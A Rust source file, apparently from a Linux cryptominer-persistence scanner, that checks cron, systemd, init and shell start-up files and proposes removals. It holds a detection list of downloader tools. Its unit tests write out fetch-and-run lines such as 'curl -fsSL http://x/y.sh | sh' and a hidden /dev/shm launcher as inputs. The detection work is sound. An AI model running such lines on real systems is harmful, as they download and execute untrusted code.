//! Persistence findings: start-up entries that download and run code, start
//! programs from temporary places, or restart a process the scan flagged.

use super::{Evidence, Finding, Remedy, Severity, Subject, Technique};
use crate::collect::persistence::{PersistFile, PersistKind};
use crate::collect::process::SHELLS;
use crate::escape::escape;
use crate::host::BytePath;
use crate::rules::{Kind, Rules};

/// A process the scan flagged, for linking start-up entries to it.
#[derive(Debug, Clone, Default)]
pub struct Flagged {
    pub pid: i32,
    pub name: String,
    /// Executable path on disk (without " (deleted)"), if it is a file.
    pub exe: Option<Vec<u8>>,
    /// Device, inode and size of the executable (through `/proc/PID/exe`, so
    /// a deleted executable has them too).
    pub exe_id: Option<(u64, u64, u64)>,
    /// SHA-256 of the executable.
    pub sha256: Option<String>,
    pub malicious: bool,
}

/// Device, inode and size of a file.
pub type Ident = (u64, u64, u64);

/// How the detector learns what a path on the machine is (through the host
/// layer): device, inode and size; and the SHA-256 of a file.
pub struct Lookup<'a> {
    pub stat: &'a dyn Fn(&[u8]) -> Option<Ident>,
    pub sha256: &'a dyn Fn(&[u8]) -> Option<String>,
}

impl Lookup<'_> {
    /// A lookup that knows nothing (fixtures).
    pub fn none() -> Lookup<'static> {
        Lookup {
            stat: &|_| None,
            sha256: &|_| None,
        }
    }

    /// How a command word is the flagged executable, if it is: the exact
    /// path, the same inode, or the same content. Never a bare name: names
    /// are the attacker's to choose (a miner called `sleep` must not make every
    /// `sleep` in a cron script its restarter).
    pub fn same_program(&self, word: &str, f: &Flagged) -> Option<&'static str> {
        if !word.starts_with('/') {
            return None;
        }
        if f.exe.as_deref() == Some(word.as_bytes()) {
            return Some("its exact path");
        }
        let (dev, ino, size) = f.exe_id?;
        let (d, i, sz) = (self.stat)(word.as_bytes())?;
        if (d, i) == (dev, ino) {
            return Some("the same file (device and inode)");
        }
        if sz == size && f.sha256.is_some() && (self.sha256)(word.as_bytes()) == f.sha256 {
            return Some("a copy with the same SHA-256");
        }
        None
    }
}

/// Programs that fetch from the network (and renamed copies miners use).
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "wge",
    "cur",
    "fetch",
    "tftp",
    "lwp-download",
    "ftp",
    "scp",
];

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

pub use crate::collect::persistence::executed_words;

/// The executed words of one line of a start-up file of this kind.
fn commands_of(line: &str, kind: PersistKind, system_crontab: bool) -> Vec<String> {
    match kind {
        PersistKind::Crontab => {
            let t = line.trim_start();
            // `NAME=value` lines set the environment of later jobs.
            let first = t.split_whitespace().next().unwrap_or("");
            if first.contains('=')
                && !first.starts_with(|c: char| c.is_ascii_digit() || c == '*' || c == '@')
            {
                return Vec::new();
            }
            let fields = if t.starts_with('@') { 1 } else { 5 } + usize::from(system_crontab);
            let mut rest = t;
            for _ in 0..fields {
                rest = rest.trim_start();
                rest = rest.find(char::is_whitespace).map_or("", |i| &rest[i..]);
            }
            executed_words(rest)
        }
        PersistKind::SystemdUnit => {
            let t = line.trim_start();
            let Some((key, value)) = t.split_once('=') else {
                return Vec::new();
            };
            if !key.trim().starts_with("Exec") {
                return Vec::new();
            }
            executed_words(value.trim_start_matches(['-', '@', '+', '!', ':']))
        }
        PersistKind::SshKeys => Vec::new(),
        _ => executed_words(line),
    }
}

/// Why a line is bad, if it is: (reasons, strong, linked miner PID, content).
/// Strong means it downloads-and-runs or restarts a malicious process; a
/// program run from a temporary place alone is reported but not removed from a
/// whole script or unit by `quarry fix`. `content` is true when the line is
/// bad by what it says (download and run), not only by a link.
fn judge_line(
    line: &str,
    kind: PersistKind,
    system_crontab: bool,
    temp_dirs: &[&str],
    flagged: &[Flagged],
    lookup: &Lookup,
) -> (Vec<String>, bool, Option<i32>, bool) {
    let mut reasons = Vec::new();
    let mut strong = false;
    let mut linked = None;
    let tokens: Vec<&str> = line
        .split(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '&' | '(' | ')' | '`' | '"' | '\'' | '=')
        })
        .filter(|t| !t.is_empty())
        .collect();
    // 1. Download piped into a shell.
    let downloads = tokens.iter().any(|t| DOWNLOADERS.contains(&basename(t)));
    let piped_shell = line.split('|').skip(1).any(|after| {
        after
            .split_whitespace()
            .next()
            .is_some_and(|t| SHELLS.contains(&basename(t)))
    });
    let b64 = line.contains("base64 -d") || line.contains("base64 --decode");
    let content = (downloads || b64) && piped_shell;
    if content {
        strong = true;
        reasons.push(if downloads {
            "downloads code and pipes it into a shell".to_string()
        } else {
            "decodes base64 and pipes it into a shell".to_string()
        });
    }
    // 2. A program started from a temporary place.
    let commands = commands_of(line, kind, system_crontab);
    if let Some(t) = commands.iter().find(|t| {
        let lower = t.to_ascii_lowercase();
        temp_dirs.iter().any(|d| lower.starts_with(d))
    }) {
        reasons.push(format!(
            "runs {} from a temporary directory",
            escape(t.as_bytes())
        ));
    }
    // 3. Runs a flagged executable: by exact path, inode or content only.
    for f in flagged {
        let how = commands.iter().find_map(|t| lookup.same_program(t, f));
        if let Some(how) = how {
            reasons.push(format!(
                "starts {} ({how}), the {} process PID {}",
                escape(f.exe.as_deref().unwrap_or(f.name.as_bytes())),
                if f.malicious { "miner" } else { "suspicious" },
                f.pid
            ));
            if f.malicious {
                strong = true;
                linked = linked.or(Some(f.pid));
            }
        }
    }
    (reasons, strong, linked, content)
}

/// Start-up lines that run one of `procs`' exact executables (path, inode or
/// content, as [`Lookup::same_program`]), as (PID, "FILE line N") pairs: the
/// persistence that restarts a process, whatever the line is otherwise.
pub fn links(files: &[PersistFile], procs: &[Flagged], lookup: &Lookup) -> Vec<(i32, String)> {
    let mut out = Vec::new();
    for f in files.iter().filter(|f| f.kind != PersistKind::SshKeys) {
        let system_crontab = f.kind == PersistKind::Crontab && f.path.starts_with(b"/etc/");
        for (i, line) in String::from_utf8_lossy(&f.content).lines().enumerate() {
            if line.trim_start().starts_with('#') {
                continue;
            }
            let commands = commands_of(line, f.kind, system_crontab);
            for p in procs {
                if let Some(how) = commands.iter().find_map(|t| lookup.same_program(t, p)) {
                    out.push((
                        p.pid,
                        format!(
                            "{} line {} runs {how} ({})",
                            escape(&f.path),
                            i + 1,
                            escape(line.trim().as_bytes())
                        ),
                    ));
                }
            }
        }
    }
    out
}

/// Findings for every start-up file.
pub fn findings(
    files: &[PersistFile],
    flagged: &[Flagged],
    rules: &Rules,
    lookup: &Lookup,
) -> Vec<Finding> {
    let temp: Vec<&str> = rules.values(Kind::TempDir).collect();
    let mut out = Vec::new();
    for f in files {
        let text = String::from_utf8_lossy(&f.content);
        let mut file_flagged = false;
        for (i, line) in text.lines().enumerate() {
            let trimmed = line.trim_start();
            if trimmed.is_empty() || trimmed.starts_with('#') || f.kind == PersistKind::SshKeys {
                continue;
            }
            let system_crontab = f.kind == PersistKind::Crontab && f.path.starts_with(b"/etc/");
            let (reasons, strong, linked, content) =
                judge_line(line, f.kind, system_crontab, &temp, flagged, lookup);
            if reasons.is_empty() {
                continue;
            }
            file_flagged = true;
            let lineno = i + 1;
            let whole_file = matches!(
                f.kind,
                PersistKind::CronScript | PersistKind::InitScript | PersistKind::SystemdUnit
            );
            let mut remedies = Vec::new();
            // What the file held when it was read whole; a file read in
            // part is pinned to nothing, so fix leaves it alone.
            let judged = super::Judged::Content(f.sha256.clone().unwrap_or_default());
            if whole_file && !strong {
                // Report only: a whole script or unit is not removed on a weak signal.
            } else if whole_file {
                if f.kind == PersistKind::SystemdUnit {
                    remedies.push(Remedy::DisableUnit {
                        path: BytePath::new(f.path.clone()),
                    });
                }
                remedies.push(Remedy::QuarantineFile {
                    path: BytePath::new(f.path.clone()),
                    id: None,
                    direct: content,
                    judged: judged.clone(),
                });
            } else {
                remedies.push(Remedy::RemoveLine {
                    path: BytePath::new(f.path.clone()),
                    line: lineno,
                    content: line.to_string(),
                    id: None,
                    judged: judged.clone(),
                });
            }
            let what = match f.kind {
                PersistKind::Crontab => "Cron job",
                PersistKind::CronScript => "Cron script",
                PersistKind::SystemdUnit => "systemd unit",
                PersistKind::InitScript => "Init script",
                PersistKind::ShellStartup => "Shell start-up line",
                PersistKind::SshKeys => "SSH key",
            };
            let mut evidence = vec![
                Evidence::new(
                    "file",
                    format!("{}: {}", escape(&f.path), f.meta.describe()),
                ),
                Evidence::new("line", format!("{lineno}: {}", escape(line.as_bytes()))),
                Evidence::new("why", reasons.join("; ")),
            ];
            if let Some(pid) = linked {
                evidence.push(Evidence::new("restarts", format!("PID {pid}")));
            }
            evidence.push(Evidence::new(
                "check by hand",
                format!("sed -n {lineno}p {}", escape(&f.path)),
            ));
            out.push(Finding {
                rule: f.kind.rule().into(),
                severity: if linked.is_some() {
                    Severity::Critical
                } else {
                    Severity::High
                },
                verdict: None,
                title: format!(
                    "{what} in {} (line {lineno}) {}",
                    escape(&f.path),
                    reasons.join("; ")
                ),
                subject: Subject {
                    pid: linked,
                    path: Some(escape(&f.path)),
                    ..Subject::default()
                },
                techniques: vec![Technique::new(f.kind.technique())],
                signals: vec![],
                score: None,
                evidence,
                remedies,
            });
        }
        // chattr protection on a crontab, key file, or a flagged start-up file.
        let protect_matters =
            file_flagged || matches!(f.kind, PersistKind::Crontab | PersistKind::SshKeys);
        if protect_matters && (f.meta.immutable || f.meta.append_only) {
            out.push(Finding {
                rule: "persistence.protected".into(),
                severity: Severity::High,
                verdict: None,
                title: format!(
                    "{} is protected with chattr ({}) so it cannot be edited or deleted — a miner's self-defence",
                    escape(&f.path),
                    if f.meta.immutable { "+i" } else { "+a" }
                ),
                subject: Subject {
                    path: Some(escape(&f.path)),
                    ..Subject::default()
                },
                techniques: vec![Technique::new("T1222.002")],
                signals: vec![],
                score: None,
                evidence: vec![
                    Evidence::new("file", f.meta.describe()),
                    Evidence::new("check by hand", format!("lsattr {}", escape(&f.path))),
                ],
                remedies: vec![],
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines() {
        let temp = ["/tmp/", "/dev/shm/"];
        let (r, strong, _, _) = judge_line(
            "*/5 * * * * curl -fsSL http://x/y.sh | sh",
            PersistKind::Crontab,
            false,
            &temp,
            &[],
            &Lookup::none(),
        );
        assert_eq!(r, vec!["downloads code and pipes it into a shell"]);
        assert!(strong);
        let (r, _, _, _) = judge_line(
            "* * * * * wge -q -O - http://x|bash",
            PersistKind::Crontab,
            false,
            &temp,
            &[],
            &Lookup::none(),
        );
        assert_eq!(r.len(), 1);
        let (r, _, _, _) = judge_line(
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            PersistKind::Crontab,
            true,
            &temp,
            &[],
            &Lookup::none(),
        );
        assert!(r.is_empty());
        let f = Flagged {
            pid: 7,
            name: "minerd".into(),
            exe: Some(b"/tmp/minerd".to_vec()),
            exe_id: Some((1, 2, 3)),
            sha256: Some("ab".into()),
            malicious: true,
        };
        let (r, _, l, _) = judge_line(
            "* * * * * root /tmp/minerd",
            PersistKind::Crontab,
            true,
            &temp,
            std::slice::from_ref(&f),
            &Lookup::none(),
        );
        assert_eq!(l, Some(7));
        assert_eq!(r.len(), 2, "{r:?}");
        // A bare name is never a link, even the miner's own name.
        let sleep = Flagged {
            name: "sleep".into(),
            exe: Some(b"/tmp/sleep".to_vec()),
            ..f.clone()
        };
        let (r, strong, l, _) = judge_line(
            "*/5 * * * * root sleep 5; minerd; /usr/bin/sleep 1",
            PersistKind::Crontab,
            true,
            &temp,
            &[sleep, f.clone()],
            &Lookup::none(),
        );
        assert!(r.is_empty() && !strong && l.is_none(), "{r:?}");
        // The same inode under another name, or a copy with the same content.
        let lookup = Lookup {
            stat: &|p| match p {
                b"/usr/local/bin/helper" => Some((1, 2, 3)),
                b"/opt/copy" => Some((9, 9, 3)),
                _ => Some((5, 5, 5)),
            },
            sha256: &|p| (p == b"/opt/copy").then(|| "ab".to_string()),
        };
        for line in ["@reboot /usr/local/bin/helper", "@reboot /opt/copy -q"] {
            let (_, _, l, _) = judge_line(
                line,
                PersistKind::Crontab,
                false,
                &temp,
                std::slice::from_ref(&f),
                &lookup,
            );
            assert_eq!(l, Some(7), "{line}");
        }
        // Arguments are not programs: x11-common creates /tmp/.X11-unix.
        let (r, _, _, _) = judge_line(
            "    mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix",
            PersistKind::InitScript,
            false,
            &temp,
            &[],
            &Lookup::none(),
        );
        assert!(r.is_empty(), "{r:?}");
        let (r, _, _, _) = judge_line(
            "ExecStart=/usr/lib/systemd/systemd-user-runtime-dir start %i",
            PersistKind::SystemdUnit,
            false,
            &temp,
            &[],
            &Lookup::none(),
        );
        assert!(r.is_empty());
        let (r, _, _, _) = judge_line(
            "ExecStart=/bin/sh -c 'nohup /dev/shm/.x/kworker >/dev/null'",
            PersistKind::SystemdUnit,
            false,
            &temp,
            &[],
            &Lookup::none(),
        );
        assert_eq!(r.len(), 1, "{r:?}");
        let (r, _, _, _) = judge_line(
            "[ -x /tmp/up ] && /tmp/up &",
            PersistKind::ShellStartup,
            false,
            &temp,
            &[],
            &Lookup::none(),
        );
        assert_eq!(r.len(), 1, "{r:?}");
    }
}
